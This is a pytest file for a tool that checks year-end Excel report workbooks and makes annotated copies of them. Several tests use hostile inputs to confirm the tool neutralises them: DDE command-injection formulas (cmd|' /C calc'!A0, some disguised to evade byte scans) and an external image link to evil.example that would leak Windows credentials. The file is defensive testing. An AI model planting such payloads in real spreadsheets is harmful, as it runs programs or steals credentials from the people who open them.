"""Files as they arrive: other programs, passwords, Strict OOXML, formulas and error
values, a reader that dies; and what the clerk gets back: annotated copies, init."""

from __future__ import annotations

import faulthandler
import hashlib
import io
import os
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest
from helpers import SAMPLES, context_of, make_workbook, member

from yearend import build, figures, gather, opener, resources, workbook
from yearend.sheets import init_folder

DATA = Path(__file__).resolve().parent / "data"
SAMPLE = SAMPLES / "青山县教育局.xlsx"


def unit_figures(folder: Path, **kw) -> dict:
    result = gather.gather(folder, **kw)
    assert [p for p in result.all_problems if p.level == "错误"] == []
    (res,) = result.units
    return figures.scalars(context_of(res))


def alone(tmp_path: Path, source: Path, name: str | None = None) -> Path:
    folder = tmp_path / (name or source.stem)
    folder.mkdir()
    shutil.copy(source, folder / (name or source.name))
    return folder


@pytest.fixture(scope="module")
def sample_figures(tmp_path_factory):
    return unit_figures(alone(tmp_path_factory.mktemp("s"), SAMPLE))


@pytest.fixture(scope="module")
def original_figures(tmp_path_factory):
    """The sample as it was when LibreOffice saved the two copies below (it has changed since)."""
    return unit_figures(alone(tmp_path_factory.mktemp("o"), DATA / "青山县教育局-样例原件.xlsx"))


# ------------------------------------------------------- the same team, saved otherwise


@pytest.mark.parametrize("file", ["青山县教育局-libreoffice.xls", "青山县教育局-libreoffice.xlsx"])
def test_files_saved_by_libreoffice_give_the_same_figures(tmp_path, original_figures, file):
    # Saved by LibreOffice Calc 25.2 from the sample: BIFF8 .xls and its own OOXML.
    assert unit_figures(alone(tmp_path, DATA / file)) == original_figures


STRICT = [
    (b"http://schemas.openxmlformats.org/spreadsheetml/2006/main", b"http://purl.oclc.org/ooxml/spreadsheetml/main"),
    (b"http://schemas.openxmlformats.org/officeDocument/2006/relationships",
     b"http://purl.oclc.org/ooxml/officeDocument/relationships"),
]


def strict_copy(source: Path, target: Path) -> None:
    """The sample in Strict OOXML's namespaces, as Excel's "Strict Open XML" saves it."""
    out = io.BytesIO()
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename.endswith((".xml", ".rels")) and info.filename != "[Content_Types].xml":
                for a, b in STRICT:
                    data = data.replace(a, b)
            zout.writestr(info.filename, data)
    target.write_bytes(out.getvalue())


def test_strict_ooxml_is_read_not_silently_empty(tmp_path, sample_figures):
    folder = tmp_path / "strict"
    folder.mkdir()
    strict_copy(SAMPLE, folder / "青山县教育局.xlsx")
    assert b"purl.oclc.org/ooxml/spreadsheetml/main" in zipfile.ZipFile(folder / "青山县教育局.xlsx").read("xl/workbook.xml")
    assert unit_figures(folder) == sample_figures


def encrypted_copy(source: Path, target: Path, password: str) -> None:
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    with source.open("rb") as f:
        OOXMLFile(f).encrypt(password, out)
    target.write_bytes(out.getvalue())


def test_a_password_protected_workbook_is_named_or_opened_with_the_password(tmp_path, sample_figures):
    folder = tmp_path / "pw"
    folder.mkdir()
    encrypted_copy(SAMPLE, folder / "青山县教育局.xlsx", "mima2025")
    result = gather.gather(folder)
    (p,) = result.problems
    assert (p.level, p.file, p.cell) == ("错误", "青山县教育局.xlsx", "")
    assert p.message.startswith("工作簿设有打开密码，无法读取。请加 --password 密码 重新运行")
    (p,) = gather.gather(folder, password="wrong").problems
    assert p.message == "工作簿设有打开密码，用 --password 给出的密码无法打开。请核对密码"
    assert unit_figures(folder, password="mima2025") == sample_figures


# ------------------------------------------------------- what calamine cannot tell apart


def test_error_values_and_uncached_formulas_are_named_by_cell(tmp_path):
    path = make_workbook(tmp_path, members=[member("张三"), member("李四")],
                         trainings=[{"日期": "2025-03-01", "主题": "写作", "学时": "=1+1"},
                                    {"日期": "2025-04-01", "主题": "研判", "学时": "#N/A"},
                                    {"日期": "2025-05-01", "主题": "保密", "学时": None}])
    result = gather.gather(tmp_path)
    found = {(p.sheet, p.cell): p.message for p in result.all_problems}
    assert found == {
        ("培训记录", "C2"): opener.NO_CACHED_VALUE,
        ("培训记录", "C3"): "单元格是错误值“#N/A”（公式出错），请改正公式或直接填写内容",
        ("培训记录", "C4"): "“学时”未填写，这是必填项，请补充",
    }
    assert all(p.level == "错误" for p in result.all_problems)
    assert path.exists()


def test_a_file_saved_by_libreoffice_with_a_formula_and_an_error_value(tmp_path):
    # E5 holds =1+2 (cached 3 by LibreOffice), E6 holds =NA() (cached #N/A).
    result = gather.gather(alone(tmp_path, DATA / "公式与错误值-libreoffice.xlsx"))
    errors = [(p.sheet, p.cell, p.message) for p in result.all_problems if p.level == "错误"]
    assert errors == [("培训记录", "E6", "单元格是错误值“#N/A”（公式出错），请改正公式或直接填写内容")]


# ------------------------------------------------------- a reader that dies


@pytest.mark.skipif(os.name != "posix", reason="the crash is injected through a forked worker")
def test_a_file_that_kills_its_reader_is_named_and_the_rest_are_read(tmp_path, monkeypatch):
    make_workbook(tmp_path, "好.xlsx", unit={"单位名称": "好单位", "年度": 2025}, members=[member("张三")])
    make_workbook(tmp_path, "坏.xlsx", unit={"单位名称": "坏单位", "年度": 2025}, members=[member("李四")])
    real = workbook.read_workbook

    def abort_on_bad(path, password=None, sparse=False, label=""):
        if path.name == "坏.xlsx":
            faulthandler.disable()  # no C stack dump in the test output
            os.abort()  # as a Rust panic=abort or an out-of-memory kill would, with either reader
        return real(path, password, sparse, label)

    monkeypatch.setattr(workbook, "read_workbook", abort_on_bad)
    result = gather.gather(tmp_path, jobs=2)
    assert [u.name for u in result.units] == ["好单位"]
    (p,) = result.problems
    assert (p.level, p.file, p.message) == ("错误", "坏.xlsx", gather.BROKEN_READ)


# ------------------------------------------------------- annotated copies


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_annotated_copy_marks_each_problem_cell_and_lists_them_all(tmp_path, make_unit):
    # =王五 is written by openpyxl as a formula with no cached value
    src = make_unit("测试局.xlsx", members=[member("张三", 入队日期="2025-13-01"), member("张三"), member("=王五")])
    inp, out = src.parent, tmp_path / "out"
    before = sha(src)
    result = build.build(build.Options(inp, out))
    assert sha(src) == before  # the clerk's file is only read
    copy = out / "问题标注" / "测试局（问题标注）.xlsx"
    wb = openpyxl.load_workbook(copy)
    assert wb.sheetnames[0] == "问题清单" and wb.active.title == "问题清单"
    listed = [tuple(c.value for c in row) for row in wb["问题清单"].iter_rows(min_row=2)]
    assert listed == [(p.level, p.sheet, p.cell, p.message) for p in result.all_problems]
    assert len(listed) == 3
    bad = wb["人员名册"]["C2"]
    assert bad.fill.fgColor.rgb.endswith("FFC7CE")  # 错误: red
    assert "【错误】入队日期：日期“2025-13-01”不存在" in bad.comment.text
    dup = wb["人员名册"]["A3"]
    assert dup.fill.fgColor.rgb.endswith("FFEB9C")  # 警告: yellow
    assert "【错误】单元格是公式" in wb["人员名册"]["A4"].comment.text
    links = {row[2].value: row[2].hyperlink.location for row in wb["问题清单"].iter_rows(min_row=2)}
    assert links["C2"] == "'人员名册'!C2"
    doc = {d.source: d.path for d in result.documents}
    assert doc == {"测试局.xlsx": "问题标注/测试局（问题标注）.xlsx"}


def _copy_of(src: Path, problems: list) -> tuple[bytes, bool]:
    from yearend import annotate

    return annotate.annotated_copy(src, src.read_bytes(), problems)


def test_an_annotated_copy_is_the_clerks_workbook_with_marks_added(tmp_path):
    """The copy is made by editing the workbook's XML: every part a mark does not touch is
    the clerk's, byte for byte (pictures, charts and validations openpyxl would drop)."""
    from yearend import annotate
    from yearend.errors import Problem
    from yearend.patchbook import patched

    problems = [Problem("警告", SAMPLE.name, "人员名册", "B4", "示例问题"), Problem("错误", SAMPLE.name, "", "", "全表的问题")]
    data, rebuilt = _copy_of(SAMPLE, problems)
    assert not rebuilt
    assert patched(SAMPLE.read_bytes(), problems, annotate.FILLS, annotate.LIST_SHEET,
                   annotate._DANGEROUS_FORMULA) == data  # openpyxl was not needed
    before, after = zipfile.ZipFile(SAMPLE), zipfile.ZipFile(io.BytesIO(data))
    changed = {n for n in before.namelist() if before.read(n) != after.read(n)}
    sheets = dict(zip(openpyxl.load_workbook(SAMPLE).sheetnames, sorted(
        (n for n in before.namelist() if n.startswith("xl/worksheets/sheet")), key=lambda n: int(n[19:-4])), strict=True))
    selected = {n for n in sheets.values() if b'tabSelected="1"' in before.read(n)}  # the list opens instead
    assert changed == {"xl/workbook.xml", "xl/styles.xml", "xl/_rels/workbook.xml.rels", "[Content_Types].xml",
                       sheets["人员名册"]} | selected
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["问题清单", *openpyxl.load_workbook(SAMPLE).sheetnames]
    assert wb["人员名册"]["B4"].comment.text == "【警告】示例问题"
    assert wb["人员名册"]["B4"].value == openpyxl.load_workbook(SAMPLE)["人员名册"]["B4"].value
    assert [[c.value for c in row] for row in wb["问题清单"].iter_rows()] == [
        ["级别", "工作表", "单元格", "问题"], ["警告", "人员名册", "B4", "示例问题"], ["错误", None, None, "全表的问题"]]
    assert wb["问题清单"]["A1"].font.b and wb["问题清单"].freeze_panes == "A2"


def test_a_mark_on_a_cell_the_sheet_does_not_hold_makes_it_in_order(tmp_path):
    from yearend.errors import Problem

    src = tmp_path / "表.xlsx"
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "It's 名册"
    ws["A1"], ws["C1"], ws["B5"] = "姓名", "部门", "张三"
    ws.print_title_rows = "1:1"  # a name of this sheet, which points at it by its place
    ws.merge_cells("C5:D6")
    wb.create_sheet("其他")["A1"] = "x"
    wb.save(src)
    data, rebuilt = _copy_of(src, [Problem("错误", src.name, "It's 名册", "B1", "空的必填项"),
                                   Problem("警告", src.name, "It's 名册", "D3", "空行中的问题"),
                                   Problem("警告", src.name, "It's 名册", "AA1", "远处的一格"),
                                   Problem("警告", src.name, "It's 名册", "D6", "合并单元格中的一格")])
    assert not rebuilt
    out = openpyxl.load_workbook(io.BytesIO(data))
    ws = out["It's 名册"]
    assert [c.coordinate for c in ws[1] if c.comment] == ["B1", "AA1"]
    assert ws["D3"].comment.text == "【警告】空行中的问题" and ws["B5"].value == "张三"
    assert ws["B1"].fill.fgColor.rgb.endswith("FFC7CE") and ws["D3"].fill.fgColor.rgb.endswith("FFEB9C")
    assert ws["C5"].comment.text == "【警告】合并单元格中的一格"  # the merged range's first cell, which Excel shows
    assert ws.print_title_rows == "$1:$1"  # still this sheet's, though it is no longer the first
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert sheet.index('r="B1"') < sheet.index('r="C1"') < sheet.index('r="AA1"') < sheet.index('r="D3"')
    assert out["问题清单"]["C2"].hyperlink.location == "'It''s 名册'!B1"


def test_a_sheet_with_comments_of_its_own_is_annotated_by_openpyxl(tmp_path):
    from openpyxl.comments import Comment

    from yearend.errors import Problem

    src = tmp_path / "表.xlsx"
    wb = openpyxl.Workbook()
    wb.active.title = "人员名册"
    wb.active["A1"] = "姓名"
    wb.active["A1"].comment = Comment("填表说明", "张三")
    wb.save(src)
    data, rebuilt = _copy_of(src, [Problem("警告", src.name, "人员名册", "A2", "示例")])
    out = openpyxl.load_workbook(io.BytesIO(data))["人员名册"]
    assert out["A1"].comment.text.startswith("填表说明") and out["A2"].comment.text == "【警告】示例"


def _edited(book: Path, sheet: bytes, edit) -> bytes:
    """The workbook's bytes with its first sheet's XML passed through ``edit`` (and any
    other member of the returned dict set): a file openpyxl would not write."""
    with zipfile.ZipFile(book) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    parts.update(edit(parts[sheet.decode()]))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return out.getvalue()


@pytest.mark.parametrize("formula", [
    "<f><![CDATA[cmd|' /C calc'!A0]]></f>",  # hidden from a scan of the bytes
    "<f>cmd|' /C calc'!<!-- -->A0</f>",
    '<x:f xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main">cmd|\' /C calc\'!A0</x:f>',
])
def test_a_formula_that_runs_a_program_never_survives_in_a_copy(tmp_path, formula):
    from yearend.errors import Problem

    book = tmp_path / "表.xlsx"
    wb = openpyxl.Workbook()
    wb.active.title = "名册"
    wb.active["A1"], wb.active["B1"] = "姓名", 1
    wb.save(book)
    data = _edited(book, b"xl/worksheets/sheet1.xml", lambda xml: {
        "xl/worksheets/sheet1.xml": xml.replace(b'<c r="B1" t="n"><v>1</v></c>', f'<c r="B1">{formula}</c>'.encode())})
    copy = tmp_path / "copy.xlsx"
    copy.write_bytes(data)
    out, _ = _copy_of(copy, [Problem("警告", copy.name, "名册", "A1", "示例")])
    cell = openpyxl.load_workbook(io.BytesIO(out))["名册"]["B1"]
    assert cell.data_type == "s"  # text now, as openpyxl's copy makes it


def test_a_copy_never_keeps_what_would_be_fetched_on_opening(tmp_path):
    """A picture linked from a server (opening it would send the clerk's Windows
    credentials there) is not carried into the copy, as openpyxl's copy never carried it."""
    from yearend.errors import Problem

    book = tmp_path / "表.xlsx"
    wb = openpyxl.Workbook()
    wb.active.title = "名册"
    wb.active["A1"] = "姓名"
    wb.save(book)
    link = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
            'Target="file://///evil.example/share/pic.png" TargetMode="External"/></Relationships>')
    data = _edited(book, b"xl/worksheets/sheet1.xml", lambda xml: {"xl/drawings/_rels/drawing1.xml.rels": link.encode()})
    copy = tmp_path / "copy.xlsx"
    copy.write_bytes(data)
    out, _ = _copy_of(copy, [Problem("警告", copy.name, "名册", "A1", "示例")])
    assert b"evil.example" not in b"".join(zipfile.ZipFile(io.BytesIO(out)).read(n)
                                          for n in zipfile.ZipFile(io.BytesIO(out)).namelist())


def test_text_excel_cannot_hold_is_made_text_it_can(tmp_path):
    """A \x0b pasted from Word into a cell, quoted in a message, was XML no program opens
    (and stopped the run in 问题汇总.xlsx); text longer than a cell holds is cut."""
    from yearend.errors import Problem
    from yearend.sheets import problems_workbook

    long = "长" * 40000
    problems = [Problem("警告", SAMPLE.name, "人员名册", "B4", "队伍类别“专职\x0b兼职”不在选项中"),
                Problem("警告", SAMPLE.name, "人员名册", "B5", long)]
    data, _ = _copy_of(SAMPLE, problems)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert wb["人员名册"]["B4"].comment.text == "【警告】队伍类别“专职\n兼职”不在选项中"
    assert len(wb["问题清单"]["D3"].value) == 32767
    book = openpyxl.load_workbook(io.BytesIO(problems_workbook([("甲局", "", "", "a.xlsx", "", "", "警告", "专职\x0b兼职",
                                                                  long)])))
    assert book.active["H2"].value == "专职\n兼职" and len(book.active["I2"].value) == 32767


def test_a_workbook_with_one_fill_gets_the_two_excel_reserves_before_the_marks(tmp_path):
    from yearend import annotate
    from yearend.errors import Problem
    from yearend.patchbook import patched

    book = tmp_path / "表.xlsx"
    wb = openpyxl.Workbook()
    wb.active.title = "名册"
    wb.active["A1"] = "姓名"
    wb.save(book)

    def one_fill(xml: bytes) -> dict:
        with zipfile.ZipFile(book) as z:
            styles = z.read("xl/styles.xml").decode()
        start, end = styles.index("<fills"), styles.index("</fills>") + len("</fills>")
        return {"xl/styles.xml": (styles[:start] + '<fills count="1"><fill><patternFill/></fill></fills>'
                                  + styles[end:]).encode()}

    data = _edited(book, b"xl/worksheets/sheet1.xml", one_fill)
    out = patched(data, [Problem("错误", "表.xlsx", "名册", "A1", "示例")], annotate.FILLS, annotate.LIST_SHEET,
                  annotate._DANGEROUS_FORMULA)
    fills = zipfile.ZipFile(io.BytesIO(out)).read("xl/styles.xml").decode().split("<fill>")[1:]
    assert "gray125" in fills[1] and "FFC7CE" in fills[2]  # fill 1 is gray125 whatever a file says


def test_xls_gets_a_rebuilt_annotated_copy(tmp_path):
    inp, out = tmp_path / "in", tmp_path / "out"
    inp.mkdir()
    shutil.copy(DATA / "青山县教育局-libreoffice.xls", inp / "青山县教育局.xls")
    make_workbook(inp, "别的.xlsx", unit={"单位名称": "青山县教育局", "年度": 2025}, members=[member("张三")])
    build.build(build.Options(inp, out))  # two workbooks of one unit and year: an error on one of them
    copies = sorted(p.name for p in (out / "问题标注").iterdir() if not p.name.startswith("."))
    assert copies == ["青山县教育局（问题标注）.xlsx"]  # the .xls, rebuilt as .xlsx
    wb = openpyxl.load_workbook(out / "问题标注" / copies[0])
    assert wb.sheetnames[0] == "问题清单"
    assert wb["问题清单"]["D2"].value.startswith("与“别的.xlsx”是同一单位（青山县教育局）同一年度（2025）")
    assert wb["人员名册"]["B4"].value == "潘梓"  # values kept where they were


def test_text_that_looks_like_a_formula_stays_text_in_the_list(tmp_path):
    from yearend import annotate
    from yearend.errors import Problem

    data, _ = annotate.annotated_copy(SAMPLE, SAMPLE.read_bytes(),
                                      [Problem("警告", SAMPLE.name, "=cmd|' /C calc'!A0", "", "+1 提示")])
    ws = openpyxl.load_workbook(io.BytesIO(data))["问题清单"]
    sheet, message = ws["B2"], ws["D2"]
    assert (sheet.value, sheet.data_type) == ("=cmd|' /C calc'!A0", "s")
    assert (message.value, message.data_type) == ("+1 提示", "s")


def test_annotated_copy_of_an_xls_keeps_its_values(tmp_path):
    from yearend import annotate
    from yearend.errors import Problem

    src = DATA / "青山县教育局-libreoffice.xls"
    data, rebuilt = annotate.annotated_copy(src, src.read_bytes(),
                                            [Problem("警告", src.name, "人员名册", "B4", "示例问题")])
    assert rebuilt
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert wb["人员名册"]["B4"].comment.text == "【警告】示例问题"
    assert wb["人员名册"]["B3"].value == "姓名"


def core_dates(data: bytes) -> tuple[str, str]:
    xml = zipfile.ZipFile(io.BytesIO(data)).read("docProps/core.xml").decode()
    return tuple(xml.split(f"<dcterms:{tag}")[1].split(">")[1].split("<")[0] for tag in ("created", "modified"))


def test_workbooks_we_write_carry_no_clock_time(tmp_path):
    # openpyxl's save stamps the current time, which made two runs differ across a second
    from yearend import annotate, sheets
    from yearend.errors import Problem

    created, modified = core_dates(SAMPLE.read_bytes())
    data, rebuilt = annotate.annotated_copy(SAMPLE, SAMPLE.read_bytes(), [Problem("警告", SAMPLE.name, "", "", "示例")])
    assert not rebuilt and core_dates(data) == (created, created)  # the clerk's own date
    xls = DATA / "青山县教育局-libreoffice.xls"
    data, rebuilt = annotate.annotated_copy(xls, xls.read_bytes(), [Problem("警告", xls.name, "", "", "示例")])
    assert rebuilt and core_dates(data) == ("2000-01-01T00:00:00Z",) * 2
    assert core_dates(sheets.new_workbook("测试局", 2026)) == ("2000-01-01T00:00:00Z",) * 2


def test_annotated_copies_are_kept_when_edited_and_removed_when_fixed(tmp_path, make_unit):
    inp, out = tmp_path / "in", tmp_path / "out"
    make_unit("测试局.xlsx", members=[member("张三", 入队日期="2025-13-01")])
    build.build(build.Options(inp, out))
    copy = out / "问题标注" / "测试局（问题标注）.xlsx"
    first = copy.read_bytes()
    build.build(build.Options(inp, out))
    assert copy.read_bytes() == first  # same input, same bytes
    copy.write_bytes(first + b"")  # untouched: fixing the workbook removes our copy
    make_unit("测试局.xlsx", members=[member("张三", 入队日期="2025-03-01")])
    build.build(build.Options(inp, out))
    assert not copy.exists()
    # an edited copy survives a run that would remove or rewrite it
    make_unit("测试局.xlsx", members=[member("张三", 入队日期="2025-13-01")])
    build.build(build.Options(inp, out))
    edited = copy.read_bytes() + b"clerk"
    copy.write_bytes(edited)
    make_unit("测试局.xlsx", members=[member("张三", 入队日期="2025-14-01")])
    build.build(build.Options(inp, out))
    assert copy.read_bytes() == edited
    assert (out / "问题标注" / "测试局（问题标注）（新生成）.xlsx").exists()


# ------------------------------------------------------- init


@pytest.mark.slow  # over 0.8 s: out of the inner loop (pytest -m 'not slow'), in CI
def test_init_writes_a_blank_workbook_the_reader_understands(tmp_path):
    from yearend import schema

    written = init_folder(tmp_path / "新单位", resources.DEFAULT_TEMPLATES, "河口镇", 2025)
    book = tmp_path / "新单位" / "河口镇.xlsx"
    assert written == [book, tmp_path / "新单位" / "模板"]
    assert sorted(p.name for p in (tmp_path / "新单位" / "模板").iterdir()) == sorted(p.name for p in resources.DEFAULT_TEMPLATES.iterdir())
    wb = openpyxl.load_workbook(book)
    assert wb.sheetnames == ["填写说明", *(t.title for t in schema.TABLES)]
    members = wb["人员名册"]
    # required columns marked with a red * that the reader reads past
    assert [c.value for c in members[1]] == [("*" if c.required else "") + c.header for c in schema.MEMBERS.columns]
    assert members.freeze_panes == "A2"
    lists = {str(dv.sqref).split(":")[0]: dv.formula1 for dv in members.data_validations.dataValidation}
    assert lists["G2"] == '"网络评论员,新闻通讯员,网络信息员,网络文明志愿者"'  # 队伍类别
    assert lists["H2"] == '"核心,骨干,基层"'
    assert members["J2"].number_format == "yyyy-mm-dd"  # 入队日期
    assert wb["单位信息"]["B2"].value == "河口镇" and wb["单位信息"]["B3"].value == 2025

    raw = workbook.read_workbook(book)
    assert set(raw.tables) == {t.key for t in schema.TABLES[1:]}
    problems = gather.gather(tmp_path / "新单位").all_problems
    assert [x.message for x in problems if x.file == "模板"] == [  # init's copy of the templates, named once
        "个人工作总结.docx、个人考核登记表.docx、印发通知.docx、名册.docx、培训台账.docx 等 15 个文件"
        "不是 Excel 工作簿（.xlsx、.xlsm、.xls、.xlsb、.et、.ods），未读取"]
    (p,) = [x for x in problems if x.file != "模板"]  # blank: the empty roster is named
    assert (p.level, p.sheet) == ("错误", "人员名册") and p.message.startswith("人员名册中没有人员")

    # filled in by the clerk, it builds
    wb["人员名册"].append(["张三", "办公室", "男", "1990-10", "中共党员", "科员", "网络评论员", "骨干", "组长",
                          "2024-01-01", None, "13800000000", None])
    wb["培训记录"].append(["2025-03-01", "写作", 2, "集中授课", None, None, "全体", None])
    wb.save(book)
    assert unit_figures(tmp_path / "新单位")["培训学时"] == 2


def test_init_never_overwrites(tmp_path):
    from yearend.errors import OutputError

    init_folder(tmp_path, resources.DEFAULT_TEMPLATES, "河口镇", 2025)
    before = sha(tmp_path / "河口镇.xlsx")
    with pytest.raises(OutputError, match="已经存在"):
        init_folder(tmp_path, resources.DEFAULT_TEMPLATES, "河口镇", 2025)
    assert sha(tmp_path / "河口镇.xlsx") == before
